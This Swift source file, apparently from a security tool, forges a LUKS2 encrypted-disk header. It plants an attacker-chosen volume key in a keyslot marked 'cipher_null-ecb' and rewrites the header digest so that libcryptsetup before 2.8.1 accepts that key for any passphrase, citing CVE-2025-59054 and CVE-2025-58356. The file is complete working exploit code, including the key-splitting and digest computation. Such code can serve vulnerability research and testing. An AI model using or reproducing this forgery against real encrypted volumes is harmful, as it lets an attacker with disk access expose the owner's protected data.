internal import BoundedBytes
internal import Cryptography
internal import JSON
internal import Secrets

/// A volume key that the host knows, in a keyslot whose key material is not encrypted: libcryptsetup before 2.8.1 takes it
/// out of there whatever passphrase it is given (CVE-2025-59054, CVE-2025-58356).
///
/// Source: LUKS On-Disk Format Specification 1.2.3, section 2.4 (anti-forensic splitter); LUKS2 specification 1.1,
/// "Keyslots Object" and "Digests Object".
enum ChosenKey {
    static let bytes = [UInt8](repeating: 0x41, count: 64)
    /// What the host need not spend on a key that is no secret.
    static let iterations = 1000
    /// As every keyslot of LUKS2 has.
    private static let stripes = 4000

    /// What an area holds for the key. All stripes but the last are zero: nothing says that they must be random.
    static func material() throws(CryptographyError) -> [UInt8] {
        var mixed = [UInt8](repeating: 0, count: bytes.count)
        for _ in 1..<stripes { mixed = try diffuse(mixed) }
        let zeros = [UInt8](repeating: 0, count: bytes.count * (stripes - 1))
        return zeros + zip(mixed, bytes).map { $0 ^ $1 }
    }

    /// Each 32 bytes become SHA-256 over their number, four bytes big-endian, and themselves.
    private static func diffuse(_ stripe: [UInt8]) throws(CryptographyError) -> [UInt8] {
        var mixed: [UInt8] = []
        for start in stride(from: 0, to: stripe.count, by: 32) {
            mixed += try DigestAlgorithm.sha256.hash([0, 0, 0, UInt8(start / 32)] + stripe[start..<start + 32])
        }
        return mixed
    }

    /// The digest by which a header knows the key: one block of PBKDF2 with HMAC-SHA-256. Source: RFC 8018, section 5.2.
    static func digest(salt: [UInt8]) throws(CryptographyError) -> [UInt8] {
        let key = SecretBytes(count: bytes.count) { (key: inout MutableSpan<UInt8>) in
            for index in bytes.indices { key[index] = bytes[index] }
        }
        var block = try MessageAuthentication.hmacSHA256(salt + [0, 0, 0, 1], key: key)
        var digest = block
        for _ in 1..<iterations {
            block = try MessageAuthentication.hmacSHA256(block, key: key)
            for index in digest.indices { digest[index] ^= block[index] }
        }
        return digest
    }
}

extension HeaderForgery {
    /// Says that the area of `keyslot` is not encrypted, and that the volume key is the chosen one.
    ///
    /// - Returns: where that area begins, in bytes; nil where the header is none with such a keyslot.
    mutating func putChosenKey(intoKeyslot keyslot: Int) throws(CryptographyError) -> Int? {
        let area = "keyslots.\(keyslot).area"
        guard let offset = member(area + ".offset")?.string.flatMap(Int.init),
            let salt = member("digests.0.salt")?.string.flatMap(Base64.decode)
        else { return nil }
        let digest = try ChosenKey.digest(salt: salt)
        let changes = [
            Change(path: area + ".encryption", value: .string("cipher_null-ecb")),
            Change(path: "digests.0.iterations", value: .integer(Int64(ChosenKey.iterations))),
            Change(path: "digests.0.digest", value: .string(Base64.encode(digest))),
        ]
        for change in changes where !apply(change) { return nil }
        return offset
    }
}
